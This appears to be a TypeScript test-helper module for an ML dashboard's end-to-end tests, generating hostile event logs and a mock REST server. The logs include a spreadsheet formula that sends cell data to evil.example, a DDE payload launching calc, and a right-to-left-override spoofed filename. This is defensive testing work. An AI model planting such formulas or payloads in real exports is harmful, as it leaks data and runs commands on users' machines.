import { createWriteStream, mkdirSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { Server } from 'node:http';
import { join } from 'node:path';

/*
 * Hostile grid searches and a hostile REST endpoint for MLboard's e2e tests: what an attacker who can
 * publish events, or who names an endpoint in a link, makes the board read. Written by the tests into a
 * copy of the storage (no fixture is committed: the data is made, not downloaded).
 */

const evaluation = (gs: string, experiment: number, epoch: number, metrics: Array<[string, number]>) => ({
  event_type: 'evaluation_result',
  creation_ts: 2,
  payload: {
    grid_search_id: gs,
    experiment_id: experiment,
    epoch,
    metric_scores: metrics.map(([metric, score]) => ({ metric, split: 'val', score })),
    loss_scores: [],
  },
});

const jobStatus = (gs: string, experiment: number) => ({
  event_type: 'job_status',
  creation_ts: 1,
  payload: {
    grid_search_id: gs,
    experiment_id: experiment,
    job_id: experiment,
    job_type: 1,
    status: 'DONE',
    starting_time: 1_700_000_000,
    finishing_time: 1_700_000_090,
    error: null,
    stacktrace: null,
  },
});

function writeLog(storage: string, gs: string, events: unknown[]): void {
  mkdirSync(join(storage, gs), { recursive: true });
  writeFileSync(join(storage, gs, 'event_storage.log'), events.map((e) => JSON.stringify(e)).join('\n') + '\n');
}

/** 100,000 distinct metric names in 25 events of one experiment (the adversarial pass's publisher). */
export const MANY_SERIES_GS = 'hostile-many-series';
export function writeManySeries(storage: string, names = 100_000, events = 25): void {
  const per = names / events;
  writeLog(storage, MANY_SERIES_GS, [
    jobStatus(MANY_SERIES_GS, 0),
    ...Array.from({ length: events }, (_, e) =>
      evaluation(
        MANY_SERIES_GS,
        0,
        0,
        Array.from({ length: per }, (_, i): [string, number] => [`metric_${String(e * per + i).padStart(6, '0')}`, i]),
      ),
    ),
  ]);
}

/** A grid search of `count` experiments, one progress event each (a million makes a 200 MB log). */
export const MANY_EXPERIMENTS_GS = 'hostile-many-experiments';
export async function writeManyExperiments(storage: string, count: number): Promise<void> {
  mkdirSync(join(storage, MANY_EXPERIMENTS_GS), { recursive: true });
  const out = createWriteStream(join(storage, MANY_EXPERIMENTS_GS, 'event_storage.log'));
  const line = (id: number) =>
    JSON.stringify({
      event_type: 'experiment_status',
      creation_ts: 1,
      payload: {
        grid_search_id: MANY_EXPERIMENTS_GS,
        experiment_id: id,
        status: 'train',
        num_epochs: 10,
        current_epoch: 1,
        splits: ['train'],
        current_split: 'train',
        num_batches: 10,
        current_batch: 1,
      },
    }) + '\n';
  for (let id = 0; id < count; id += 10_000) {
    let text = '';
    for (let i = id; i < Math.min(count, id + 10_000); i++) text += line(i);
    if (!out.write(text)) await new Promise<void>((r) => out.once('drain', () => r()));
  }
  await new Promise<void>((r, f) => out.end((e?: Error | null) => (e ? f(e) : r())));
}

/**
 * A run whose names and values are built to fool a person: a config value that is a spreadsheet formula,
 * a metric whose name holds U+202E (RIGHT-TO-LEFT OVERRIDE), a value starting with `-` that is no number.
 */
export const HOSTILE_NAMES_GS = 'hostile-names';
export const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")';
export const REVERSED_METRIC = 'acc\u202Egnp.exe';
export function writeHostileNames(storage: string): void {
  const config = (id: number, note: string) => ({
    event_type: 'experiment_config',
    creation_ts: 1,
    payload: {
      grid_search_id: HOSTILE_NAMES_GS,
      experiment_id: id,
      job_id: id,
      config: { note, lr: id === 0 ? 0.1 : -0.5 },
    },
  });
  writeLog(storage, HOSTILE_NAMES_GS, [
    config(0, FORMULA),
    config(1, '-2+3+cmd|"/c calc"!A0'),
    jobStatus(HOSTILE_NAMES_GS, 0),
    jobStatus(HOSTILE_NAMES_GS, 1),
    evaluation(HOSTILE_NAMES_GS, 0, 0, [[REVERSED_METRIC, 0.5]]),
    evaluation(HOSTILE_NAMES_GS, 1, 0, [[REVERSED_METRIC, 0.25]]),
  ]);
}

export interface HostileRest {
  url: string;
  server: Server;
  /** Content-Security-Policy violation reports POSTed to `${url}/csp-report` (from pages and workers). */
  cspReports: string[];
  close(): Promise<void>;
}

/**
 * A REST endpoint that answers what a hostile or broken server would: `GET /grid_searches` lists
 * `gridSearches` entries, `/checkpoint_list/...` lists nulls, anything else is a 404 of the usual shape.
 */
export async function startHostileRest(
  gridSearches: number,
  /** A token every request but `GET /whoami` must carry (Authorization: Bearer), as the auth contract says. */
  token?: string,
): Promise<HostileRest> {
  let list: Buffer | undefined;
  const listing = () =>
    (list ??= Buffer.from(
      JSON.stringify(
        Array.from({ length: gridSearches }, (_, i) => ({
          grid_search_id: `gs-${String(gridSearches - i).padStart(7, '0')}`,
          experiments: i % 50,
          modified: '2026-12-02T04:11:28.000Z',
        })),
      ),
    ));
  const cspReports: string[] = [];
  const server = createServer((req, res) => {
    const headers = { 'content-type': 'application/json', 'access-control-allow-origin': '*' };
    const path = new URL(req.url ?? '/', 'http://x').pathname;
    if (req.method === 'POST' && path === '/csp-report') {
      let body = '';
      req.on('data', (c: Buffer) => (body += c.toString()));
      req.on('end', () => {
        cspReports.push(body);
        res.writeHead(204);
        res.end();
      });
      return;
    }
    if (req.method === 'OPTIONS') {
      res.writeHead(204, {
        ...headers,
        'access-control-allow-headers': 'authorization, content-type',
        'access-control-allow-methods': 'GET',
      });
      return res.end();
    }
    const sent = /^Bearer (.+)$/.exec(req.headers.authorization ?? '')?.[1];
    if (path === '/whoami') {
      res.writeHead(200, headers);
      const known = token !== undefined && sent === token;
      return res.end(
        JSON.stringify({
          auth_required: token !== undefined,
          public_reads: false,
          name: known ? 'alice' : null,
          scope: token === undefined ? 'admin' : known ? 'read' : null,
          grid_searches: null,
        }),
      );
    }
    if (token !== undefined && sent !== token) {
      res.writeHead(401, { ...headers, 'www-authenticate': 'Bearer' });
      const code = sent === undefined ? 'AUTH_REQUIRED' : 'AUTH_INVALID';
      return res.end(JSON.stringify({ code, message: sent === undefined ? 'a token is required' : 'unknown token' }));
    }
    if (path === '/grid_searches') {
      res.writeHead(200, headers);
      return res.end(listing());
    }
    if (path.startsWith('/checkpoint_list/')) {
      res.writeHead(200, headers);
      return res.end('[null,null]');
    }
    res.writeHead(404, headers);
    res.end(JSON.stringify({ code: 'NOT_FOUND', message: `no route ${path}` }));
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  const url = `http://127.0.0.1:${(server.address() as { port: number }).port}`;
  return {
    url,
    server,
    cspReports,
    close: () =>
      new Promise<void>((r) => {
        server.closeAllConnections();
        server.close(() => r());
      }),
  };
}
